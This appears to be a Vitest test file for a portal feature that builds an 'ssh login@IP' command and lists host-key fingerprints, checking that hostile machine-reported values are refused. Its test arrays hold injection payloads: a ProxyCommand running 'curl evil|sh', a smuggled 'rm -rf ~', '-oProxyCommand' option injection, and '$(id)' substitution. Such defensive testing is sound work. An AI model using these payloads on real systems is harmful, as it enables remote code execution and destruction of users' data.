// The portal's ssh line: shown and copied only as "ssh <login>@<IP literal>",
// rebuilt from checked parts; anything else a machine reported is refused.
import { describe, expect, it } from "vitest";
import { hostKeyFingerprints, isIpLiteral, sshCommand } from "../../src/ssh_line";

describe("sshCommand", () => {
  it("builds the line from a login and an IPv4 or IPv6 literal", () => {
    expect(sshCommand("ubuntu@10.0.0.5")).toBe("ssh ubuntu@10.0.0.5");
    expect(sshCommand("debian@fd00::9")).toBe("ssh debian@fd00::9");
    expect(sshCommand("root@2001:db8:0:0:0:0:0:1")).toBe("ssh root@2001:db8:0:0:0:0:0:1");
    expect(sshCommand("_svc-1@::ffff:192.0.2.1")).toBe("ssh _svc-1@::ffff:192.0.2.1");
  });
  it("gives null when nothing was reported", () => {
    expect(sshCommand(null)).toBeNull();
    expect(sshCommand(undefined)).toBeNull();
    expect(sshCommand("")).toBeNull();
  });
  it("refuses what a hostile machine could report instead of passing it through", () => {
    const hostile = [
      "ubuntu@fe80::1%eth0\nProxyCommand sh -c 'curl evil|sh'", // scope id carrying a config line
      "ubuntu@10.0.0.5\nrm -rf ~", // a second command when pasted into a terminal
      "ubuntu@10.0.0.5\r",
      "ubuntu@10.0.0.5\u0000",
      "ubuntu@fe80::1%eth0", // a scope id is free text
      "ubuntu@10.0.0.5 -oProxyCommand=id", // a second argument
      "ubuntu@-oProxyCommand=id",
      "-oProxyCommand=id@10.0.0.5", // an option in the user
      "ubuntu@10.0.0.5#x",
      "ubuntu@10.0.0.5;id",
      "ubuntu@$(id)",
      "ubuntu@`id`",
      "ub'untu@10.0.0.5",
      'ub"untu@10.0.0.5',
      "ub=untu@10.0.0.5",
      "ub\\untu@10.0.0.5",
      "ubüntu@10.0.0.5", // non-ASCII
      "ubuntu@１０.0.0.5", // full-width digits
      "Ubuntu@10.0.0.5", // not a POSIX login name
      "a".repeat(33) + "@10.0.0.5",
      "ubuntu@" + "1".repeat(5000),
      "ubuntu@host.example", // a name, not a literal: would be resolved
      "ubuntu@[fd00::9]",
      "ubuntu@10.0.0.5:22",
      "ubuntu@@10.0.0.5",
      "10.0.0.5",
      "ubuntu@",
    ];
    for (const h of hostile) expect(sshCommand(h), JSON.stringify(h)).toBeNull();
  });
});

describe("isIpLiteral", () => {
  it("accepts IPv4 and IPv6 literals, compressed or not", () => {
    for (const a of ["0.0.0.0", "255.255.255.255", "10.0.0.5", "::", "::1", "fd00::9", "1::", "1:2:3:4:5:6:7:8", "1:2:3:4:5:6:1.2.3.4", "FD00::ABCD"])
      expect(isIpLiteral(a), a).toBe(true);
  });
  it("refuses what is not one", () => {
    for (const a of ["", "256.0.0.1", "010.0.0.1", "1.2.3", "1.2.3.4.5", "1:2:3:4:5:6:7:8:9", "1::2::3", ":1", "1:", "12345::", "1.2.3.4::", "::1.2.3", "1:2:3:4:5:6:7::8", "g::1", "fe80::1%eth0", " ::1"])
      expect(isIpLiteral(a), a).toBe(false);
  });
});

describe("hostKeyFingerprints", () => {
  const fp = "SHA256:" + "A".repeat(42) + "E";
  it("lists each key as its type and fingerprint", () => {
    expect(hostKeyFingerprints([{ type: "ssh-ed25519", key: "AAAA", sha256: fp }])).toEqual([`ssh-ed25519 ${fp}`]);
    expect(hostKeyFingerprints([])).toEqual([]);
    expect(hostKeyFingerprints(undefined)).toEqual([]);
  });
  it("leaves out what is not a known type and an exact fingerprint", () => {
    const hostile = [
      { type: "ssh-ed25519\nProxyCommand x", sha256: fp },
      { type: "ssh-ed25519", sha256: fp + "\n@cert-authority *" },
      { type: "ssh-dss", sha256: fp },
      { type: "ssh-ed25519", sha256: "SHA256:short" },
      { type: "ssh-ed25519", sha256: "MD5:" + "A".repeat(43) },
      { type: 7, sha256: fp },
      null,
      "ssh-ed25519 " + fp,
    ];
    expect(hostKeyFingerprints(hostile)).toEqual([]);
  });
});
